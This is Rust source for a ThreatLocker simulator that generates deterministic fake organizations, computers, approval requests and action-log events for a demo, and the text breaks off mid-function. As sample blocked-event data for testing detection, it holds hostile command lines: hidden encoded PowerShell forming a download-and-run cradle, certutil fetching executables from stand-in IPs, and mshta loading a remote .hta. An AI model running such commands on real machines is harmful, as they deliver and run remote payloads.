//! Deterministic, lazily generated ThreatLocker data for the simulator.
//!
//! A [`Dataset`] holds what is small (organizations, computers, the application catalogue,
//! approval requests and a few hand-placed "story" events) and computes the bulk of the action
//! log on demand: event `k` of organization `o` is a pure function of `(seed, o, k)`, and event
//! times are spaced evenly over the window, so a page of a date-filtered search is generated
//! without materialising the rest. Memory stays bounded at any scale.

use chrono::{DateTime, Duration, SecondsFormat, Utc};
use serde::Serialize;

/// SplitMix64: a tiny, well-mixed deterministic hash of a seed and two coordinates.
pub fn mix(seed: u64, a: u64, b: u64) -> u64 {
    let mut z = seed
        .wrapping_add(a.wrapping_mul(0x9E37_79B9_7F4A_7C15))
        .wrapping_add(b.wrapping_mul(0xD1B5_4A32_D192_ED03))
        .wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// A GUID-shaped id derived from a namespace and a number (lower-case, version-4 layout).
pub fn guid(seed: u64, namespace: u64, n: u64) -> String {
    let a = mix(seed, namespace, n);
    let b = mix(seed ^ 0x5555, namespace, n);
    format!(
        "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
        (a >> 32) as u32,
        (a >> 16) as u16,
        (a & 0xfff) as u16,
        (0x8000 | (b >> 48) & 0x3fff) as u16,
        b & 0xffff_ffff_ffff
    )
}

/// A SHA-256-shaped hex digest derived from a label (not a real hash of anything).
pub fn fake_sha256(label: &str) -> String {
    let base = label.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    });
    (0..4)
        .map(|i| format!("{:016x}", mix(base, i, 7)))
        .collect()
}

/// How much and what kind of data to generate.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub struct SimConfig {
    /// Seed; the same seed gives the same data.
    pub seed: u64,
    /// Child organizations under the MSP parent.
    pub organizations: usize,
    /// Generated action-log events in total (spread over the organizations).
    pub events: u64,
    /// Computers per organization.
    pub computers_per_org: usize,
    /// Generated pending approval requests per organization (besides the story ones).
    pub approvals_per_org: usize,
    /// Include the hand-placed story events and approvals (the demo's narrative).
    pub story: bool,
    /// Suspicious generated events per 10 000 (encoded PowerShell, LOLBins, spreading hash).
    pub suspicious_per_10k: u64,
    /// Generated blocks per 10 000 (audit-only denies instead on computers not in Secure mode).
    pub blocks_per_10k: u64,
    /// Generated audit-only denies per 10 000, on computers not in Secure mode only.
    pub audit_only_per_10k: u64,
    /// The simulator's "now": events lie in the `window_hours` before it.
    pub now: DateTime<Utc>,
    /// Width of the window the events are spread over.
    pub window_hours: u32,
    /// Computers of the MSP's own (home) organization, the one the API key belongs to; 0 for
    /// none. Its rows and requests are generated like a client's.
    pub home_computers: usize,
    /// The mix of a real MSP tenant: requests for signed built-in browser installers (about one
    /// in five), installers blocked where users tried them, and encoded PowerShell started by
    /// Word among the suspicious events.
    pub msp_mix: bool,
}

impl SimConfig {
    /// The demo data set: four client organizations, a few hundred background events, and the
    /// story (repeat blocks, encoded PowerShell, LOLBins, a spreading hash, an audit-only deny on
    /// a Secure computer, approvals in and out of the auto-approve categories).
    pub fn demo(now: DateTime<Utc>) -> Self {
        Self {
            seed: 0x7407_10c4,
            organizations: 4,
            events: 600,
            computers_per_org: 6,
            approvals_per_org: 0,
            story: true,
            suspicious_per_10k: 0,
            blocks_per_10k: 0,
            audit_only_per_10k: 150,
            now,
            window_hours: 24,
            home_computers: 3,
            msp_mix: false,
        }
    }

    /// Only the story: small, hand-checkable numbers (the tests' known data set).
    pub fn story_only(now: DateTime<Utc>) -> Self {
        Self {
            events: 0,
            ..Self::demo(now)
        }
    }

    /// A large data set: `organizations` organizations and `events` events in total.
    pub fn scale(organizations: usize, events: u64, now: DateTime<Utc>) -> Self {
        Self {
            seed: 0x5ca1e,
            organizations,
            events,
            computers_per_org: 12,
            approvals_per_org: 2,
            story: false,
            suspicious_per_10k: 5,
            blocks_per_10k: 100,
            audit_only_per_10k: 300,
            now,
            window_hours: 24,
            home_computers: 0,
            msp_mix: false,
        }
    }

    /// A tenant built like a real MSP's: the MSP's own organization with its own computers,
    /// `organizations` client organizations of `computers_per_org` computers, `events` rows over
    /// two days, four pending requests per organization (about one in five for a signed built-in
    /// browser installer), about one row in seven a block.
    pub fn msp_tenant(
        organizations: usize,
        computers_per_org: usize,
        events: u64,
        now: DateTime<Utc>,
    ) -> Self {
        Self {
            seed: 0x4d53_5031,
            organizations,
            events,
            computers_per_org,
            approvals_per_org: 4,
            story: false,
            suspicious_per_10k: 8,
            blocks_per_10k: 1_400,
            audit_only_per_10k: 300,
            now,
            window_hours: 48,
            home_computers: computers_per_org,
            msp_mix: true,
        }
    }
}

/// Computer modes as the API spells them.
pub const MODES: [&str; 4] = ["Secure", "Learning", "Installation", "MonitorOnly"];

/// One simulated organization.
#[derive(Debug, Clone)]
pub struct SimOrg {
    /// Organization id.
    pub id: String,
    /// Slug name.
    pub name: String,
    /// Display name.
    pub display_name: String,
    /// Short upper-case code used in host names and the domain.
    pub code: String,
    /// Users (`DOMAIN\\user`).
    pub users: Vec<String>,
    /// Index range of this organization's computers in [`Dataset::computers`].
    pub computers: std::ops::Range<usize>,
    /// The MSP's own (home) organization: its id is the parent's, and it is not listed as a
    /// child.
    pub home: bool,
}

/// One simulated computer.
#[derive(Debug, Clone)]
pub struct SimComputer {
    /// Computer id.
    pub id: String,
    /// Host name.
    pub name: String,
    /// Owning organization index.
    pub org: usize,
    /// Computer group id.
    pub group_id: String,
    /// Group name.
    pub group: String,
    /// Mode (`Secure`, `Learning`, ...).
    pub mode: &'static str,
}

/// One application in the simulated catalogue.
#[derive(Debug, Clone)]
pub struct SimApp {
    /// Application id.
    pub id: String,
    /// Application name.
    pub name: &'static str,
    /// Executable file name.
    pub file: &'static str,
    /// Path with `{user}` for the user's profile folder.
    pub path: &'static str,
    /// Signer subject, if signed.
    pub cert: Option<&'static str>,
    /// Research categories.
    pub categories: &'static [&'static str],
    /// Built-in (owned by the `master` organization).
    pub built_in: bool,
    /// SHA-256.
    pub sha256: String,
    /// Legacy hash.
    pub hash: String,
    /// Whether the matching-list call knows it (unknown binaries have no application).
    pub known: bool,
}

struct AppSpec {
    name: &'static str,
    file: &'static str,
    path: &'static str,
    cert: Option<&'static str>,
    categories: &'static [&'static str],
    built_in: bool,
    known: bool,
}

const APPS: &[AppSpec] = &[
    AppSpec {
        name: "Google Chrome",
        file: "chrome.exe",
        path: "c:\\program files\\google\\chrome\\application\\chrome.exe",
        cert: Some("CN=Google LLC"),
        categories: &["Web Browsers"],
        built_in: true,
        known: true,
    },
    AppSpec {
        name: "Microsoft Teams",
        file: "ms-teams.exe",
        path: "c:\\program files\\windowsapps\\msteams\\ms-teams.exe",
        cert: Some("CN=Microsoft Corporation"),
        categories: &["Collaboration"],
        built_in: true,
        known: true,
    },
    AppSpec {
        name: "Microsoft Word",
        file: "winword.exe",
        path: "c:\\program files\\microsoft office\\root\\office16\\winword.exe",
        cert: Some("CN=Microsoft Corporation"),
        categories: &["Productivity"],
        built_in: true,
        known: true,
    },
    AppSpec {
        name: "Adobe Acrobat Reader",
        file: "acrord32.exe",
        path: "c:\\program files\\adobe\\acrobat dc\\acrobat\\acrord32.exe",
        cert: Some("CN=Adobe Inc."),
        categories: &["PDF Readers", "Productivity"],
        built_in: true,
        known: true,
    },
    AppSpec {
        name: "7-Zip",
        file: "7zfm.exe",
        path: "c:\\program files\\7-zip\\7zfm.exe",
        cert: None,
        categories: &["Utilities"],
        built_in: false,
        known: true,
    },
    AppSpec {
        name: "Zoom",
        file: "zoom.exe",
        path: "c:\\users\\{user}\\appdata\\roaming\\zoom\\bin\\zoom.exe",
        cert: Some("CN=Zoom Video Communications, Inc."),
        categories: &["Video Conferencing"],
        built_in: false,
        known: true,
    },
    AppSpec {
        name: "AnyDesk",
        file: "anydesk.exe",
        path: "c:\\users\\{user}\\downloads\\anydesk.exe",
        cert: Some("CN=philandro Software GmbH"),
        categories: &["Remote Access"],
        built_in: false,
        known: true,
    },
    AppSpec {
        name: "uTorrent",
        file: "utorrent.exe",
        path: "c:\\users\\{user}\\appdata\\roaming\\utorrent\\utorrent.exe",
        cert: Some("CN=BitTorrent Inc"),
        categories: &["Peer-to-Peer File Sharing"],
        built_in: false,
        known: true,
    },
    AppSpec {
        name: "Notepad++",
        file: "notepad++.exe",
        path: "c:\\program files\\notepad++\\notepad++.exe",
        cert: Some("CN=Notepad++"),
        categories: &["Text Editors", "Utilities"],
        built_in: false,
        known: true,
    },
    AppSpec {
        name: "invoice_viewer",
        file: "invoice_viewer.exe",
        path: "c:\\users\\{user}\\appdata\\local\\temp\\invoice_viewer.exe",
        cert: None,
        categories: &[],
        built_in: false,
        known: false,
    },
    AppSpec {
        name: "Windows PowerShell",
        file: "powershell.exe",
        path: "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
        cert: Some("CN=Microsoft Windows"),
        categories: &["Operating System"],
        built_in: true,
        known: true,
    },
    AppSpec {
        name: "CertUtil",
        file: "certutil.exe",
        path: "c:\\windows\\system32\\certutil.exe",
        cert: Some("CN=Microsoft Windows"),
        categories: &["Operating System"],
        built_in: true,
        known: true,
    },
    AppSpec {
        name: "Microsoft HTML Application Host",
        file: "mshta.exe",
        path: "c:\\windows\\system32\\mshta.exe",
        cert: Some("CN=Microsoft Windows"),
        categories: &["Operating System"],
        built_in: true,
        known: true,
    },
    AppSpec {
        name: "PDF Converter Setup",
        file: "pdfconverter_setup.exe",
        path: "c:\\users\\{user}\\downloads\\pdfconverter_setup.exe",
        cert: None,
        categories: &["Productivity"],
        built_in: false,
        known: false,
    },
    AppSpec {
        name: "Google Chrome",
        file: "chromesetup.exe",
        path: "c:\\users\\{user}\\downloads\\chromesetup.exe",
        cert: Some("CN=Google LLC, O=Google LLC, L=Mountain View, S=California, C=US"),
        categories: &["Web Browsers"],
        built_in: true,
        known: true,
    },
    AppSpec {
        name: "Mozilla Firefox",
        file: "firefox setup 133.0.exe",
        path: "c:\\users\\{user}\\downloads\\firefox setup 133.0.exe",
        cert: Some(
            "CN=Mozilla Corporation, O=Mozilla Corporation, L=San Francisco, S=California, C=US",
        ),
        categories: &["Web Browsers"],
        built_in: true,
        known: true,
    },
];

/// Catalogue indices, for readability.
pub mod app {
    #![allow(missing_docs)]
    pub const CHROME: usize = 0;
    pub const TEAMS: usize = 1;
    pub const WORD: usize = 2;
    pub const ACROBAT: usize = 3;
    pub const SEVENZIP: usize = 4;
    pub const ZOOM: usize = 5;
    pub const ANYDESK: usize = 6;
    pub const UTORRENT: usize = 7;
    pub const NOTEPADPP: usize = 8;
    pub const INVOICE: usize = 9;
    pub const POWERSHELL: usize = 10;
    pub const CERTUTIL: usize = 11;
    pub const MSHTA: usize = 12;
    pub const PDFSETUP: usize = 13;
    pub const CHROMESETUP: usize = 14;
    pub const FIREFOXSETUP: usize = 15;
}

/// What kind of row an event is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EventKind {
    /// Allowed by policy.
    Permit,
    /// Blocked (actionId 2, or 3 with the request prompt).
    Block {
        /// Offer the request prompt (actionId 3).
        option_to_request: bool,
    },
    /// A deny only observed (`isMonitorMode: true`).
    AuditOnly,
}

/// One action-log row before serialisation.
#[derive(Debug, Clone)]
pub struct SimEvent {
    /// Numeric id.
    pub action_log_id: i64,
    /// Organization index.
    pub org: usize,
    /// Computer index.
    pub computer: usize,
    /// User.
    pub user: String,
    /// Time.
    pub time: DateTime<Utc>,
    /// Application index.
    pub app: usize,
    /// Kind.
    pub kind: EventKind,
    /// Action type (`execute`, `network`, ...).
    pub action_type: &'static str,
    /// Creating / parent process path.
    pub parent: Option<&'static str>,
    /// Command line or script text (`data`).
    pub data: Option<String>,
}

/// A pending (or actioned) approval request.
#[derive(Debug, Clone)]
pub struct SimApproval {
    /// Request id.
    pub id: String,
    /// Organization index.
    pub org: usize,
    /// Computer index.
    pub computer: usize,
    /// User.
    pub user: String,
    /// Application index.
    pub app: usize,
    /// The user's reason (plain; base64-encoded on the wire).
    pub reason: String,
    /// When it was requested.
    pub time: DateTime<Utc>,
    /// Action type.
    pub action_type: &'static str,
}

/// The whole simulated tenant.
#[derive(Debug, Clone)]
pub struct Dataset {
    /// Configuration it was generated from.
    pub config: SimConfig,
    /// The MSP parent organization (the API user's home).
    pub parent: SimOrg,
    /// Child organizations, then (when it has computers) the home organization's own entry,
    /// whose index is [`Dataset::home`].
    pub orgs: Vec<SimOrg>,
    /// Index in `orgs` of the home organization's own entry (same id as `parent`).
    pub home: Option<usize>,
    /// Every computer.
    pub computers: Vec<SimComputer>,
    /// The application catalogue.
    pub apps: Vec<SimApp>,
    /// Approval requests.
    pub approvals: Vec<SimApproval>,
    /// Hand-placed events per organization, sorted by time.
    pub story: Vec<Vec<SimEvent>>,
    generated_per_org: Vec<u64>,
}

const STORY_NAMES: &[(&str, &str, &str)] = &[
    ("contoso-dental", "Contoso Dental", "CONTOSO"),
    ("widget-inc", "Widget Inc", "WIDGET"),
    ("fabrikam-legal", "Fabrikam Legal", "FABRIKAM"),
    ("northwind-traders", "Northwind Traders", "NORTHWIND"),
    ("acme-corp", "Acme Corp", "ACME"),
    ("tailspin-clinic", "Tailspin Clinic", "TAILSPIN"),
];
const FIRST: &[&str] = &[
    "jsmith", "mwilson", "agarcia", "lchen", "pdubois", "kpatel", "tnguyen", "rjones", "sbrown",
    "emiller",
];

/// Namespaces for generated ids.
mod ns {
    pub const ORG: u64 = 1;
    pub const COMPUTER: u64 = 2;
    pub const GROUP: u64 = 3;
    pub const APP: u64 = 4;
    pub const APPROVAL: u64 = 5;
    pub const EVENT: u64 = 6;
    pub const POLICY: u64 = 7;
}

impl Dataset {
    /// Generates the small parts; events are computed on demand.
    pub fn generate(config: SimConfig) -> Self {
        let seed = config.seed;
        let parent = SimOrg {
            id: guid(seed, ns::ORG, 0),
            name: "msp-parent".into(),
            display_name: "MSP Parent".into(),
            code: "MSP".into(),
            users: vec!["MSP\\tech".into()],
            computers: 0..0,
            home: true,
        };
        let mut orgs = Vec::with_capacity(config.organizations);
        let mut computers = Vec::new();
        for o in 0..config.organizations {
            let (name, display, code) = match STORY_NAMES.get(o) {
                Some((n, d, c)) => ((*n).to_owned(), (*d).to_owned(), (*c).to_owned()),
                None => (
                    format!("client-{o:04}"),
                    format!("Client {o:04}"),
                    format!("CL{o:04}"),
                ),
            };
            let users: Vec<String> = (0..5)
                .map(|u| format!("{code}\\{}", FIRST[(o + u * 3) % FIRST.len()]))
                .collect();
            let start = computers.len();
            let group_id = guid(seed, ns::GROUP, o as u64);
            for c in 0..config.computers_per_org.max(1) {
                // Mostly Secure; the fourth machine of each org is learning, the fifth is in
                // monitor-only mode (a maintenance state).
                let mode = match c % 8 {
                    3 => "Learning",
                    4 => "MonitorOnly",
                    7 => "Installation",
                    _ => "Secure",
                };
                let kind = if c % 3 == 2 { "LT" } else { "WS" };
                computers.push(SimComputer {
                    id: guid(seed, ns::COMPUTER, (o * 10_000 + c) as u64),
                    name: format!("{code}-{kind}{:02}", c + 1),
                    org: o,
                    group_id: group_id.clone(),
                    group: "Workstations".into(),
                    mode,
                });
            }
            orgs.push(SimOrg {
                id: guid(seed, ns::ORG, o as u64 + 1),
                name,
                display_name: display,
                code,
                users,
                computers: start..computers.len(),
                home: false,
            });
        }
        // The MSP's own organization: real machines too (technicians' workstations, servers).
        let mut parent = parent;
        let home = (config.home_computers > 0).then(|| {
            let o = orgs.len();
            let start = computers.len();
            for c in 0..config.home_computers {
                computers.push(SimComputer {
                    id: guid(seed, ns::COMPUTER, 9_000_000 + c as u64),
                    name: format!("MSP-{}{:02}", if c % 4 == 3 { "SRV" } else { "WS" }, c + 1),
                    org: o,
                    group_id: guid(seed, ns::GROUP, 9_000_000),
                    group: "MSP Workstations".into(),
                    mode: if c % 8 == 3 { "Learning" } else { "Secure" },
                });
            }
            parent.computers = start..computers.len();
            parent.users = ["tech", "jdoe", "asmith", "bkhan", "cwong"]
                .iter()
                .map(|u| format!("MSP\\{u}"))
                .collect();
            orgs.push(parent.clone());
            o
        });
        let apps = APPS
            .iter()
            .enumerate()
            .map(|(i, a)| SimApp {
                id: guid(seed, ns::APP, i as u64),
                name: a.name,
                file: a.file,
                path: a.path,
                cert: a.cert,
                categories: a.categories,
                built_in: a.built_in,
                sha256: fake_sha256(a.name),
                hash: fake_sha256(&format!("md5:{}", a.name))[..32].to_owned(),
                known: a.known,
            })
            .collect();

        let n = orgs.len() as u64;
        let generated_per_org = (0..n)
            .map(|o| config.events / n.max(1) + u64::from(o < config.events % n.max(1)))
            .collect();

        let story = vec![Vec::new(); orgs.len()];
        let mut ds = Self {
            parent,
            orgs,
            computers,
            apps,
            approvals: Vec::new(),
            story,
            home,
            generated_per_org,
            config,
        };
        ds.generate_approvals();
        if ds.config.story {
            ds.place_story();
        }
        ds
    }

    fn window(&self) -> (DateTime<Utc>, DateTime<Utc>) {
        // Ten minutes of margin at both ends keeps reruns seconds apart seeing the same rows.
        let end = self.config.now - Duration::minutes(10);
        let start = self.config.now - Duration::hours(i64::from(self.config.window_hours))
            + Duration::minutes(10);
        (start, end)
    }

    fn generate_approvals(&mut self) {
        let seed = self.config.seed;
        let per_org = self.config.approvals_per_org;
        let classic: &[usize] = &[
            app::CHROME,
            app::ZOOM,
            app::ANYDESK,
            app::SEVENZIP,
            app::PDFSETUP,
            app::UTORRENT,
        ];
        // Two in ten for a signed built-in browser installer.
        let msp: &[usize] = &[
            app::CHROMESETUP,
            app::FIREFOXSETUP,
            app::ZOOM,
            app::ANYDESK,
            app::SEVENZIP,
            app::PDFSETUP,
            app::UTORRENT,
            app::NOTEPADPP,
            app::INVOICE,
            app::ACROBAT,
        ];
        let pool = if self.config.msp_mix { msp } else { classic };
        for o in 0..self.orgs.len() {
            for a in 0..per_org {
                let h = mix(seed, (o * 100 + a) as u64, 99);
                let comp = self.orgs[o].computers.start
                    + (h as usize % self.orgs[o].computers.len().max(1));
                let n = self.approvals.len() as u64;
                self.approvals.push(SimApproval {
                    id: guid(seed, ns::APPROVAL, n),
                    org: o,
                    computer: comp,
                    user: self.orgs[o].users[(h >> 8) as usize % self.orgs[o].users.len()].clone(),
                    app: if self.config.msp_mix {
                        // Evenly over the pool, so the share of installers is exact.
                        pool[(o * per_org + a) % pool.len()]
                    } else {
                        pool[(h >> 16) as usize % pool.len()]
                    },
                    reason: "Need this for work".into(),
                    time: self.config.now - Duration::minutes(30 + (h % 600) as i64),
                    action_type: "execute",
                });
            }
        }
    }

    /// Hand-placed events and approvals telling the demo's story.
    fn place_story(&mut self) {
        let now = self.config.now;
        let seed = self.config.seed;
        let at = |mins: i64| now - Duration::minutes(mins);
        let org_count = self.orgs.len();
        let mut next_id = 900_000_000_000i64;
        let mut push = |ds: &mut Self,
                        o: usize,
                        c: usize,
                        u: usize,
                        mins: i64,
                        app: usize,
                        kind: EventKind,
                        action_type: &'static str,
                        parent: Option<&'static str>,
                        data: Option<String>| {
            if o >= org_count {
                return;
            }
            let org = &ds.orgs[o];
            let computer = org.computers.start + c.min(org.computers.len() - 1);
            let user = org.users[u % org.users.len()].clone();
            next_id += 1;
            ds.story[o].push(SimEvent {
                action_log_id: next_id,
                org: o,
                computer,
                user,
                time: at(mins),
                app,
                kind,
                action_type,
                parent,
                data,
            });
        };
        let block = EventKind::Block {
            option_to_request: true,
        };
        let hard_block = EventKind::Block {
            option_to_request: false,
        };
        // Contoso Dental: AnyDesk blocked four times on WS02 (a repeat block) and requested.
        for m in [300, 240, 180, 120] {
            push(
                self,
                0,
                1,
                0,
                m,
                app::ANYDESK,
                block,
                "execute",
                Some("c:\\windows\\explorer.exe"),
                None,
            );
        }
        // Contoso: uTorrent blocked once on WS01 (below the threshold).
        push(
            self,
            0,
            0,
            1,
            200,
            app::UTORRENT,
            hard_block,
            "execute",
            Some("c:\\windows\\explorer.exe"),
            None,
        );
        // Widget Inc: encoded PowerShell blocked on LT03, and certutil run from a temp folder.
        push(self, 1, 2, 1, 95, app::POWERSHELL, hard_block, "execute", Some("c:\\windows\\explorer.exe"),
            Some("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA".into()));
        push(self, 1, 2, 1, 93, app::CERTUTIL, hard_block, "execute", Some("c:\\program files\\google\\chrome\\application\\chrome.exe"),
            Some("certutil.exe -urlcache -split -f http://203.0.113.9/p.bin c:\\users\\mwilson\\appdata\\local\\temp\\p.exe".into()));
        // Fabrikam Legal: mshta spawned by Word, and an audit-only deny on a Secure computer.
        push(
            self,
            2,
            0,
            2,
            75,
            app::MSHTA,
            hard_block,
            "execute",
            Some("c:\\program files\\microsoft office\\root\\office16\\winword.exe"),
            Some("mshta.exe http://203.0.113.7/invoice.hta".into()),
        );
        push(
            self,
            2,
            1,
            0,
            70,
            app::UTORRENT,
            EventKind::AuditOnly,
            "execute",
            Some("c:\\windows\\explorer.exe"),
            None,
        );
        // Northwind Traders: an unknown binary blocked on four different computers.
        for (c, m) in [(0, 60), (1, 50), (2, 40), (5, 30)] {
            push(
                self,
                3,
                c,
                c,
                m,
                app::INVOICE,
                hard_block,
                "execute",
                Some("c:\\program files\\microsoft office\\root\\office16\\outlook.exe"),
                None,
            );
        }

        // Widget Inc: a noisy user on WS01 (AnyDesk and uTorrent blocked again and again, and
        // the Chrome installer once), who also asked for that installer: repeated denials get
        // a ticket, and the signed built-in installer is approved anyway.
        for (m, a) in [
            (140, app::ANYDESK),
            (130, app::UTORRENT),
            (125, app::ANYDESK),
            (118, app::UTORRENT),
            (50, app::CHROMESETUP),
        ] {
            push(
                self,
                1,
                0,
                2,
                m,
                a,
                block,
                "execute",
                Some("c:\\windows\\explorer.exe"),
                None,
            );
        }
        // Fabrikam Legal WS01 again: encoded PowerShell started by Word (both a suspicious
        // execution and a LOLBin started by Office: one detection), in the same incident as
        // the mshta above: one ticket with several detections.
        push(self, 2, 0, 2, 74, app::POWERSHELL, hard_block, "execute",
            Some("c:\\program files\\microsoft office\\root\\office16\\winword.exe"),
            Some("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA".into()));
        // The MSP's own organization: uTorrent blocked three times on a technician's
        // workstation (a repeat block on the MSP's own machine).
        if let Some(home) = self.home {
            for m in [220, 210, 205] {
                push(
                    self,
                    home,
                    0,
                    0,
                    m,
                    app::UTORRENT,
                    hard_block,
                    "execute",
                    Some("c:\\windows\\explorer.exe"),
                    None,
                );
            }
        }

        // Approval requests: signed built-in browser installers and Zoom in the auto-approve
        // categories, three for review.
        let add = |ds: &mut Self,
                   o: usize,
                   c: usize,
                   u: usize,
                   app_idx: usize,
                   mins: i64,
                   reason: &str| {
            if o >= ds.orgs.len() {
                return;
            }
            let org = &ds.orgs[o];
            let n = ds.approvals.len() as u64;
            ds.approvals.push(SimApproval {
                id: guid(seed, ns::APPROVAL, 10_000 + n),
                org: o,
                computer: org.computers.start + c.min(org.computers.len() - 1),
                user: org.users[u % org.users.len()].clone(),
                app: app_idx,
                reason: reason.into(),
                time: at(mins),
                action_type: "execute",
            });
        };
        add(
            self,
            0,
            1,
            0,
            app::ZOOM,
            110,
            "Need Zoom for the patient call at 3pm",
        );
        add(
            self,
            0,
            1,
            0,
            app::ANYDESK,
            115,
            "Vendor support session for the X-ray software",
        );
        add(
            self,
            1,
            0,
            2,
            app::CHROMESETUP,
            45,
            "Need Chrome for the supplier portal",
        );
        if let Some(home) = self.home {
            add(
                self,
                home,
                1,
                1,
                app::FIREFOXSETUP,
                40,
                "Firefox for testing the client portal",
            );
        }
        add(
            self,
            2,
            3,
            3,
            app::PDFSETUP,
            65,
            "Need to convert PDFs for a client",
        );
        add(
            self,
            3,
            1,
            1,
            app::INVOICE,
            35,
            "Invoice from supplier won't open",
        );
        for s in &mut self.story {
            s.sort_by_key(|e| (e.time, e.action_log_id));
        }
    }

    /// Generated events of organization `o` (not counting story events).
    pub fn generated_count(&self, o: usize) -> u64 {
        self.generated_per_org.get(o).copied().unwrap_or(0)
    }

    /// Total events of organization `o`.
    pub fn event_count(&self, o: usize) -> u64 {
        self.generated_count(o) + self.story.get(o).map_or(0, |s| s.len() as u64)
    }

    /// Time of generated event `k` of organization `o` (evenly spaced, ascending).
    pub fn generated_time(&self, o: usize, k: u64) -> DateTime<Utc> {
        let (start, end) = self.window();
        let n = self.generated_count(o).max(1);
        let span = (end - start).num_milliseconds().max(1) as u128;
        let offset = (span * (2 * u128::from(k) + 1) / (2 * u128::from(n))) as i64;
        start + Duration::milliseconds(offset)
    }

    /// The generated-event index range whose times fall in `[from, to]`.
    pub fn generated_range(
        &self,
        o: usize,
        from: DateTime<Utc>,
        to: DateTime<Utc>,
    ) -> std::ops::Range<u64> {
        let n = self.generated_count(o);
        if n == 0 || to < from {
            return 0..0;
        }
        // Binary search on the monotone time function.
        let first = partition(n, |k| self.generated_time(o, k) < from);
        let end = partition(n, |k| self.generated_time(o, k) <= to);
        first..end.max(first)
    }

    /// Generated event `k` of organization `o`.
    pub fn generated_event(&self, o: usize, k: u64) -> SimEvent {
        let seed = self.config.seed;
        let h = mix(seed, o as u64, k);
        let org = &self.orgs[o];
        let ncomp = org.computers.len().max(1);
        let computer = org.computers.start + (h % ncomp as u64) as usize;
        let user = org.users[((h >> 8) % org.users.len() as u64) as usize].clone();
        let time = self.generated_time(o, k);
        let roll = (h >> 16) % 10_000;
        let sus = self.config.suspicious_per_10k;
        let pick = (h >> 32) as usize;
        let mode = self.computers[computer].mode;
        let monitor_mode = mode != "Secure";
        let blocks = self.config.blocks_per_10k;
        let audits = self.config.audit_only_per_10k;
        let common = [
            app::CHROME,
            app::TEAMS,
            app::WORD,
            app::ACROBAT,
            app::SEVENZIP,
            app::NOTEPADPP,
            app::ZOOM,
        ];
        let blocked: &[usize] = if self.config.msp_mix {
            &[
                app::ANYDESK,
                app::UTORRENT,
                app::PDFSETUP,
                app::CHROMESETUP,
                app::FIREFOXSETUP,
                app::NOTEPADPP,
                app::SEVENZIP,
            ]
        } else {
            &[app::ANYDESK, app::UTORRENT, app::PDFSETUP]
        };
        let suspicious_kinds = if self.config.msp_mix { 4 } else { 3 };
        let (app, kind, action_type, parent, data) = if roll < sus {
            match pick % suspicious_kinds {
                3 => (
                    app::POWERSHELL,
                    EventKind::Block {
                        option_to_request: false,
                    },
                    "execute",
                    Some("c:\\program files\\microsoft office\\root\\office16\\winword.exe"),
                    Some(format!(
                        "powershell.exe -nop -w hidden -enc {}",
                        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
                    )),
                ),
                0 => (
                    app::POWERSHELL,
                    EventKind::Block {
                        option_to_request: false,
                    },
                    "execute",
                    Some("c:\\windows\\explorer.exe"),
                    Some(format!(
                        "powershell.exe -nop -w hidden -enc {}",
                        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
                    )),
                ),
                1 => (
                    app::CERTUTIL,
                    EventKind::Block {
                        option_to_request: false,
                    },
                    "execute",
                    Some("c:\\program files\\microsoft office\\root\\office16\\winword.exe"),
                    Some("certutil.exe -urlcache -f http://198.51.100.4/a.exe a.exe".to_owned()),
                ),
                _ => (
                    app::INVOICE,
                    EventKind::Block {
                        option_to_request: false,
                    },
                    "execute",
                    Some("c:\\windows\\explorer.exe"),
                    None,
                ),
            }
        } else if roll < sus + blocks {
            let kind = if monitor_mode {
                EventKind::AuditOnly
            } else {
                EventKind::Block {
                    option_to_request: pick.is_multiple_of(2),
                }
            };
            (
                blocked[pick % blocked.len()],
                kind,
                "execute",
                Some("c:\\windows\\explorer.exe"),
                None,
            )
        } else if roll < sus + blocks + audits && monitor_mode {
            (
                blocked[pick % blocked.len()],
                EventKind::AuditOnly,
                "execute",
                Some("c:\\windows\\explorer.exe"),
                None,
            )
        } else {
            let a = common[pick % common.len()];
            let at = if pick.is_multiple_of(11) {
                "network"
            } else {
                "execute"
            };
            (
                a,
                EventKind::Permit,
                at,
                Some("c:\\windows\\explorer.exe"),
                None,
            )
        };
        SimEvent {
            action_log_id: (o as i64 + 1) * 1_000_000_000 + k as i64,
            org: o,
            computer,
            user,
            time,
            app,
            kind,
            action_type,
            parent,
            data,
        }
    }

    /// Event `i` of organization `o` in `[from, to]` order: generated first, then story.
    /// Returns every event of the organization in that range, lazily.
    pub fn events_in(&self, o: usize, from: DateTime<Utc>, to: DateTime<Utc>) -> OrgEvents<'_> {
        let gen = self.generated_range(o, from, to);
        let story: Vec<usize> = self
            .story
            .get(o)
            .map(|s| {
                s.iter()
                    .enumerate()
                    .filter(|(_, e)| e.time >= from && e.time <= to)
                    .map(|(i, _)| i)
                    .collect()
            })
            .unwrap_or_default();
        OrgEvents {
            ds: self,
            org: o,
            gen,
            story,
        }
    }

    /// The wire row of an event.
    pub fn row(&self, e: &SimEvent) -> ActionLogRowOut {
        let org = &self.orgs[e.org];
        let comp = &self.computers[e.computer];
        let app = &self.apps[e.app];
        let user_short = e.user.rsplit('\\').next().unwrap_or(&e.user);
        let full_path = app.path.replace("{user}", user_short);
        let (action_id, action, monitor) = match e.kind {
            EventKind::Permit => (1, "Permit", false),
            EventKind::Block {
                option_to_request: false,
            } => (2, "Deny", false),
            EventKind::Block {
                option_to_request: true,
            } => (3, "Deny (Option to Request)", false),
            EventKind::AuditOnly => (2, "Deny", true),
        };
